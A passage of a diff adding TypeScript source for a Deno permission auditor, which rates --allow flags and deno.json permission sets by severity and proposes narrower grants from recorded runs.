+      );
+    }
+  }
+}
+
+function rateGrant(grant: Grant, denies: readonly Deny[]): Rated {
+  switch (grant.kind) {
+    case "all":
+      return {
+        severity: "critical",
+        message:
+          "every permission: read ~/.ssh, run any program, reach any host" +
+          (denies.length > 0
+            ? ` (partly mitigated by ${denies.map((d) => d.flag).join(" ")})`
+            : ""),
+        suggestion:
+          "grant only what it needs: `deno task audit --learn --json prog.ts > trail.json`, then --trail trail.json proposes the flags",
+      };
+    case "hrtime":
+      return {
+        severity: "info",
+        message:
+          "removed in Deno 2: high-resolution time is always on, the flag only warns",
+        suggestion: "delete the flag",
+      };
+    case "scripts":
+      return grant.values === null
+        ? {
+          severity: "high",
+          message:
+            "npm lifecycle scripts of every package run as plain processes, outside the Deno sandbox",
+          suggestion:
+            "list only the packages that need it: --allow-scripts=npm:sqlite3",
+        }
+        : {
+          severity: "medium",
+          message: `lifecycle scripts of ${
+            grant.values.join(", ")
+          } run outside the Deno sandbox`,
+          suggestion: "review those packages' install scripts",
+        };
+  }
+  const kind = grant.kind;
+  const same = denies.filter((d) => d.kind === kind);
+  const total = same.find((d) => d.values === null);
+  // Deny beats allow: a bare --deny-X cancels the grant entirely.
+  if (total) {
+    return {
+      severity: "info",
+      message: `cancelled by ${total.flag} (deny beats allow)`,
+      suggestion: "delete both flags",
+    };
+  }
+  const denied = same.flatMap((d) => d.values ?? []);
+  const cancelled =
+    grant.values?.filter((v) => denied.some((d) => covers(kind, d, v))) ?? [];
+  const left = grant.values?.filter((v) => !cancelled.includes(v)) ?? null;
+  const rated = rateList(kind, left);
+  if (cancelled.length > 0) {
+    rated.message += ` (${cancelled.join(", ")} cancelled by ${
+      same.map((d) => d.flag).join(" ")
+    })`;
+  } else if (same.length > 0) {
+    rated.message += ` (partly mitigated by ${
+      same.map((d) => d.flag).join(" ")
+    })`;
+  }
+  return rated;
+}
+
+/** Whether a deny entry covers an allow entry of the same kind. */
+function covers(kind: PermissionKind, deny: string, allow: string): boolean {
+  if (deny === allow) return true;
+  if (kind === "read" || kind === "write" || kind === "ffi") {
+    const d = cleanPath(deny);
+    return d === "/" || cleanPath(allow).startsWith(`${d}/`);
+  }
+  if (kind === "env" && deny.endsWith("*")) {
+    return allow.startsWith(deny.slice(0, -1));
+  }
+  if (kind === "net" || kind === "import") {
+    return !deny.includes(":") && hostOf(allow) === deny;
+  }
+  return false;
+}
+
+// ── Permission sets (-P) ────────────────────────────────────────────────
+
+/** The `permissions` of a deno.json, and `test`/`bench`/`compile` ones. */
+export interface PermissionSets {
+  /** Named sets (`-P=name`; bare `-P` is "default"). */
+  sets: Record<string, unknown>;
+  /** `test.permissions` etc., used by a bare `-P` of that subcommand. */
+  bySubcommand: Record<string, unknown>;
+}
+
+/**
+ * Reads the permission sets of a deno.json/deno.jsonc text.
+ *
+ * @param text The config text (JSONC).
+ * @returns The sets, or null when it has none or does not parse.
+ *
+ * @example Usage
+ * ```ts
+ * import { permissionSetsOf } from "./mod.ts";
+ * console.log(permissionSetsOf('{ "permissions": { "default": { "net": true } } }')?.sets);
+ * // { default: { net: true } }
+ * ```
+ */
+export function permissionSetsOf(text: string): PermissionSets | null {
+  let json: unknown;
+  try {
+    json = parseJsonc(text);
+  } catch {
+    return null;
+  }
+  if (!isRecord(json)) return null;
+  const sets = isRecord(json.permissions) ? json.permissions : {};
+  const bySubcommand: Record<string, unknown> = {};
+  for (const sub of ["test", "bench", "compile"]) {
+    const section = json[sub];
+    if (isRecord(section) && section.permissions !== undefined) {
+      bySubcommand[sub] = section.permissions;
+    }
+  }
+  return Object.keys(sets).length + Object.keys(bySubcommand).length > 0
+    ? { sets, bySubcommand }
+    : null;
+}
+
+/** The grants and denies a `-P` set stands for, or null when not found. */
+function expandSet(
+  parsed: ParsedDenoCommand,
+  sets: PermissionSets | null,
+): { grants: Grant[]; denies: Deny[] } | null {
+  const set = parsed.permissionSet!;
+  const value = set.name === "default" &&
+      sets?.bySubcommand[parsed.subcommand] !== undefined
+    ? sets.bySubcommand[parsed.subcommand]
+    : sets?.sets[set.name];
+  if (!isRecord(value)) return null;
+  const from = ` (from ${set.flag})`;
+  const grants: Grant[] = [];
+  const denies: Deny[] = [];
+  if (value.all === true) {
+    grants.push({ kind: "all", values: null, flag: `--allow-all${from}` });
+  }
+  const list = (v: unknown) =>
+    Array.isArray(v) ? v.filter((s) => typeof s === "string") : null;
+  for (const kind of LIST_KINDS) {
+    const entry = value[kind];
+    const allow = isRecord(entry) ? entry.allow : entry;
+    const deny = isRecord(entry) ? entry.deny : undefined;
+    if (allow === true || (Array.isArray(allow) && allow.length > 0)) {
+      const values = list(allow);
+      grants.push({
+        kind,
+        values,
+        flag: `--allow-${kind}${values ? `=${values}` : ""}${from}`,
+      });
+    }
+    if (deny === true || (Array.isArray(deny) && deny.length > 0)) {
+      const values = list(deny);
+      denies.push({
+        kind,
+        values,
+        flag: `--deny-${kind}${values ? `=${values}` : ""}${from}`,
+      });
+    }
+  }
+  return { grants, denies };
+}
+
+// ── Recorded runs (--trail) ─────────────────────────────────────────────
+
+/**
+ * The parts of an `AuditReport` (audit/report.ts) the flag audit
+ * uses; every AuditReport is one (the tests hold that at compile time).
+ */
+export interface Trail {
+  /** The program the run audited, as given to `deno task audit`. */
+  program: string;
+  /** A learn-mode run allows everything, so nothing in it was refused. */
+  learn: boolean;
+  /** The distinct attempts of the run. */
+  entries: readonly TrailEntry[];
+  /** The minimal `deno run` flags for the run (refused attempts included). */
+  minimalFlags: readonly string[];
+}
+
+/** One distinct attempt of a recorded run (an AuditReport's `ReportEntry`). */
+export interface TrailEntry {
+  /** A permission kind, or "egress" for a request through the injector. */
+  kind: string;
+  /** Sandbox-side value: path, host:port, variable, command. */
+  value: string;
+  /** Host-side path, when it maps. */
+  hostValue: string | null;
+  /** The run's decision. */
+  decision: "allow" | "deny";
+}
+
+/**
+ * Checks that a parsed JSON value is an audit report (or an array of them),
+ * as `deno task audit --json` prints.
+ *
+ * @param value The parsed JSON.
+ * @param name The file name, for the error message.
+ * @returns The reports.
+ * @throws {TypeError} When it is not a report.
+ *
+ * @example Usage
+ * ```ts
+ * import { parseTrail } from "./mod.ts";
+ * const [trail] = parseTrail({ program: "a.ts", learn: false, entries: [], minimalFlags: [] }, "t.json");
+ * console.log(trail?.program); // "a.ts"
+ * ```
+ */
+export function parseTrail(value: unknown, name: string): Trail[] {
+  const reports = Array.isArray(value) ? value : [value];
+  for (const report of reports) {
+    const ok = isRecord(report) && typeof report.program === "string" &&
+      Array.isArray(report.entries) && report.entries.every(isEntry) &&
+      Array.isArray(report.minimalFlags) &&
+      report.minimalFlags.every((f) => typeof f === "string");
+    if (!ok) {
+      throw new TypeError(
+        `Cannot use '${name}' as a trail: expected the JSON of 'deno task audit --json <program>' (an object with 'program', 'entries' and 'minimalFlags')`,
+      );
+    }
+  }
+  return reports as Trail[];
+}
+
+function isEntry(entry: unknown): boolean {
+  return isRecord(entry) && typeof entry.kind === "string" &&
+    typeof entry.value === "string" &&
+    (entry.hostValue === null || typeof entry.hostValue === "string") &&
+    (entry.decision === "allow" || entry.decision === "deny");
+}
+
+function trailFor(
+  script: string | null,
+  trails: readonly Trail[],
+): Trail | null {
+  if (script === null) return null;
+  const norm = (p: string) => p.replace(/^\.\//, "");
+  const s = norm(script);
+  return trails.find((t) => {
+    const p = norm(t.program);
+    return p === s || s.endsWith(`/${p}`) || p.endsWith(`/${s}`) ||
+      basename(p) === basename(s);
+  }) ?? null;
+}
+
+/**
+ * The flags a recorded run used, per kind: values the run was refused (in
+ * an enforcing run) and values this audit rates high are left out, so the
+ * proposal never grants what a prompt injection went for.
+ */
+function observedFlags(
+  trail: Trail,
+): Map<PermissionKind, { flag: string; leftOut: string[] }> {
+  const out = new Map<PermissionKind, { flag: string; leftOut: string[] }>();
+  for (const flag of trail.minimalFlags) {
+    const m = flag.match(/^--allow-([a-z]+)(?:=(.*))?$/);
+    if (!m || !LIST_KINDS.includes(m[1] as PermissionKind)) continue;
+    const kind = m[1] as PermissionKind;
+    if (m[2] === undefined) {
+      out.set(kind, { flag, leftOut: [] });
+      continue;
+    }
+    const keep: string[] = [];
+    const leftOut: string[] = [];
+    for (const value of splitList(m[2])) {
+      const tried = trail.entries.filter((e) =>
+        (e.kind === kind || (kind === "net" && e.kind === "egress")) &&
+        [e.value, e.hostValue].some((v) =>
+          v === value || v?.startsWith(`${value}/`)
+        )
+      );
+      const refused = !trail.learn && tried.length > 0 &&
+        tried.every((e) => e.decision === "deny");
+      const risky = ["read", "write", "net", "env"].includes(kind) &&
+        SEVERITIES.indexOf(rateList(kind, [value]).severity) >=
+          SEVERITIES.indexOf(kind === "env" ? "medium" : "high");
+      if (refused || risky) leftOut.push(value);
+      else keep.push(value);
+    }
+    if (keep.length > 0) {
+      out.set(kind, { flag: `--allow-${kind}=${keep.join(",")}`, leftOut });
+    } else out.set(kind, { flag: "", leftOut });
+  }
+  return out;
+}
+
+function trailSuggestion(grant: Grant, trail: Trail): string {
+  const observed = [...observedFlags(trail)];
+  const run = `the recorded run of ${trail.program}`;
+  const notProposed = (values: string[]) =>
+    values.length > 0
+      ? `; not proposed (refused in the run, or risky): ${values.join(", ")}`
+      : "";
+  const pick = grant.kind === "all"
+    ? observed
+    : observed.filter(([kind]) => kind === grant.kind);
+  if (
+    grant.kind !== "all" && !LIST_KINDS.includes(grant.kind as PermissionKind)
+  ) {
+    return "";
+  }
+  if (pick.length === 0) {
+    return `${run} used no ${
+      grant.kind === "all" ? "permission" : grant.kind
+    }: delete ${grant.flag}`;
+  }
+  const flags = pick.map(([, o]) => o.flag).filter((f) => f !== "");
+  const leftOut = pick.flatMap(([kind, o]) =>
+    o.leftOut.map((v) => grant.kind === "all" ? `${kind} ${v}` : v)
+  );
+  return (flags.length > 0
+    ? `${run} ${grant.kind === "all" ? "needed only" : "used"}: ${
+      flags.join(" ")
+    }`
+    : `${run} needs no ${
+      grant.kind === "all" ? "permission" : grant.kind
+    } grant`) +
+    notProposed(leftOut);
+}
+
+// ── Putting it together ─────────────────────────────────────────────────
+
+/** Options for {@linkcode auditText}. */
+export interface AuditTextOptions {
+  /** Recorded runs to take exact flags from. */
+  trails?: readonly Trail[];
+  /** The permission sets `-P` refers to (default: the text's own, for a deno.json). */
+  permissionSets?: PermissionSets | null;
+}
+
+/**
+ * Audits one file's text.
+ *
+ * @param text The file's text.
+ * @param path Its path as it should appear in findings (its name decides how
+ * it is read).
+ * @param options Trails and permission sets.
+ * @returns The findings, in file order.
+ *
+ * @example Usage
+ * ```ts
+ * import { auditText } from "./mod.ts";
+ * const [finding] = auditText('{ "tasks": { "dev": "deno run -A --no-prompt main.ts" } }', "deno.json");
+ * console.log(finding?.severity, finding?.flag); // critical -A
+ * ```
+ */
+export function auditText(
+  text: string,
+  path: string,
+  options: AuditTextOptions = {},
+): Finding[] {
+  const sets = options.permissionSets !== undefined
+    ? options.permissionSets
+    : /^deno\.jsonc?$/.test(basename(path))
+    ? permissionSetsOf(text)
+    : null;
+  return findDenoCommands(text, path).flatMap((site) =>
+    rateSite(site, path, sets, options.trails ?? [])
+  );
+}
+
+function rateSite(
+  site: CommandSite,
+  file: string,
+  sets: PermissionSets | null,
+  trails: readonly Trail[],
+): Finding[] {
+  const parsed = parseDenoCommand(site.words.slice(1));
+  if (!parsed) return [];
+  const command = site.words.map(quoteWord).join(" ");
+  const findings: Finding[] = [];
+  const add = (flag: string, rated: Rated) =>
+    findings.push({ file, line: site.line, command, flag, ...rated });
+  if (parsed.subcommand === "eval") {
+    add("deno eval", {
+      severity: "critical",
+      message:
+        "deno eval runs with every permission, whatever its flags (--deny-* included)",
+      suggestion:
+        "put the code in a file and run it with deno run and narrow flags",
+    });
+    return findings;
+  }
+  let grants = parsed.grants;
+  let denies = parsed.denies;
+  if (parsed.permissionSet) {
+    const expanded = expandSet(parsed, sets);
+    if (expanded) {
+      grants = [...grants, ...expanded.grants];
+      denies = [...denies, ...expanded.denies];
+    } else {
+      add(parsed.permissionSet.flag, {
+        severity: "medium",
+        message:
+          `loads permission set '${parsed.permissionSet.name}' from a config file this audit did not find`,
+        suggestion:
+          "write the flags on the command line, or check the set in deno.json 'permissions' by hand",
+      });
+    }
+  }
+  const trail = trailFor(parsed.script, trails);
+  for (const grant of grants) {
+    const rated = rateGrant(grant, denies);
+    if (parsed.misplacedValue?.flag === grant.flag) {
+      const word = parsed.misplacedValue.word;
+      rated.message +=
+        `; '${word}' after it is not its list but the script Deno runs`;
+      rated.suggestion =
+        `write the list with '=': --allow-${grant.kind}=${word}`;
+    }
+    const observed = trail ? trailSuggestion(grant, trail) : "";
+    add(grant.flag, observed ? { ...rated, suggestion: observed } : rated);
+  }
+  for (const { flag, message } of parsed.problems) {
+    add(flag, {
+      severity: "medium",
+      message:
+        `cannot audit: ${message}, so the command fails or means something else`,
+      suggestion: "fix the flag (see `deno run --help`)",
+    });
+  }
+  const prompts = ["run", "serve", "test", "bench"].includes(parsed.subcommand);
+  const all = grants.some((g) => g.kind === "all");
+  if (
+    prompts && !all && !parsed.noPrompt && !site.noPromptEnv &&
+    site.context !== "script" && site.context !== "docs"
+  ) {
+    add("(no --no-prompt)", {
+      severity: "low",
+      message:
+        `no --no-prompt in a ${site.context} command: a missing grant becomes a prompt that blocks or is auto-answered`,
+      suggestion: "add --no-prompt so a missing grant fails fast",
+    });
+  }
+  return findings;
+}
+
+function quoteWord(word: string): string {
+  return /^[\w@%+=:,./~$*{}-]+$/.test(word)
+    ? word
+    : `'${word.replaceAll("'", `'\\''`)}'`;
+}
+
+/** Options for {@linkcode auditPath}. */
+export interface AuditPathOptions {
+  /** Recorded runs to take exact flags from. */
+  trails?: readonly Trail[];
+  /** Files or directories to skip, relative to the audited path. */
+  exclude?: readonly string[];
+  /** Directory finding paths are relative to (default: the audited path). */
+  relativeTo?: string;
+}
+
+/** Directories never walked: dependencies and VCS data, not the project's commands. */
+const SKIP_DIRS = new Set(["node_modules", ".git", "vendor"]);
+/** Larger files are data, not scripts. */
+const MAX_FILE_BYTES = 1024 * 1024;
+
+/**
+ * Audits a directory (walked, skipping node_modules, .git and vendor, and
+ * not following symlinks) or one file.
+ *
+ * @param path The directory or file.
+ * @param options Trails, exclusions, and what paths are relative to.
+ * @returns The findings, most severe first, then by file and line.
+ *
+ * @example Usage
+ * ```ts ignore
+ * import { auditPath } from "./mod.ts";
+ * for (const f of await auditPath(".")) console.log(f.severity, `${f.file}:${f.line}`, f.flag);
+ * ```
+ */
+export async function auditPath(
+  path: string,
+  options: AuditPathOptions = {},
+): Promise<Finding[]> {
+  const root = resolve(path);
+  const base = resolve(
+    options.relativeTo ??
+      ((await Deno.stat(root)).isDirectory ? root : dirname(root)),
+  );
+  const excluded = (options.exclude ?? []).map((e) => resolve(root, e));
+  const files: string[] = [];
+  await walk(root, excluded, files, true);
+  const texts = new Map<string, string>();
+  for (const file of files) {
+    const text = await readText(file);
+    if (text !== null) texts.set(file, text);
+  }
+  const setsByDir = new Map<string, PermissionSets | null>();
+  for (const [file, text] of texts) {
+    // Deno reads deno.json before deno.jsonc, and the walk is sorted.
+    if (
+      /^deno\.jsonc?$/.test(basename(file)) && !setsByDir.has(dirname(file))
+    ) {
+      setsByDir.set(dirname(file), permissionSetsOf(text));
+    }
+  }
+  // The nearest config at or above the file, up to the audited path.
+  const setsFor = (file: string): PermissionSets | null => {
+    for (let dir = dirname(file);; dir = dirname(dir)) {
+      const sets = setsByDir.get(dir);
+      if (sets) return sets;
+      if (dir === root || !dir.startsWith(`${root}/`)) return null;
+    }
+  };
+  const findings = [...texts].flatMap(([file, text]) =>
+    auditText(text, relative(base, file) || basename(file), {
+      trails: options.trails ?? [],
+      permissionSets: setsFor(file),
+    })
+  );
+  return sortFindings(findings);
+}
+
+async function walk(
+  path: string,
+  excluded: readonly string[],
+  out: string[],
+  top = false,
+): Promise<void> {
+  if (excluded.some((e) => path === e || path.startsWith(`${e}/`))) return;
+  // The path given is followed; symlinks inside it are not (a link to / or
+  // to a loop would walk forever, and its files are not the project's).
+  const info = top ? await Deno.stat(path) : await Deno.lstat(path);
+  if (info.isFile) {
+    out.push(path);
+    return;
+  }
+  if (!info.isDirectory) return;
+  const names: string[] = [];
+  for await (const entry of Deno.readDir(path)) {
+    if (!(entry.isDirectory && SKIP_DIRS.has(entry.name))) {
+      names.push(entry.name);
+    }
+  }
+  for (const name of names.sort()) await walk(join(path, name), excluded, out);
+}
+
+/** The file's text, or null for big or binary files. */
+async function readText(file: string): Promise<string | null> {
+  const info = await Deno.stat(file);
+  if (info.size > MAX_FILE_BYTES) return null;
+  const bytes = await Deno.readFile(file);
+  if (bytes.subarray(0, 8000).includes(0)) return null;
+  return new TextDecoder().decode(bytes);
+}
+
+/**
+ * Sorts findings most severe first, then by file and line.
+ *
+ * @param findings The findings.
+ * @returns A sorted copy.
+ *
+ * @example Usage
+ * ```ts
+ * import { sortFindings } from "./mod.ts";
+ * const f = { file: "a", line: 1, command: "", flag: "", message: "", suggestion: "" };
+ * console.log(sortFindings([{ ...f, severity: "low" }, { ...f, severity: "critical" }]).map((x) => x.severity));
+ * // [ "critical", "low" ]
+ * ```
+ */
+export function sortFindings(findings: readonly Finding[]): Finding[] {
+  return [...findings].sort((a, b) =>
+    SEVERITIES.indexOf(b.severity) - SEVERITIES.indexOf(a.severity) ||
+    a.file.localeCompare(b.file) || a.line - b.line
+  );
+}
+
+/**
+ * Whether `severity` is at or above `threshold`.
+ *
+ * @param severity A finding's severity.
+ * @param threshold The bar.
+ * @returns True when it reaches the bar.
+ *
+ * @example Usage
+ * ```ts
+ * import { atOrAbove } from "./mod.ts";
+ * console.log(atOrAbove("critical", "high"), atOrAbove("low", "high")); // true false
+ * ```
+ */
+export function atOrAbove(severity: Severity, threshold: Severity): boolean {
+  return SEVERITIES.indexOf(severity) >= SEVERITIES.indexOf(threshold);
+}
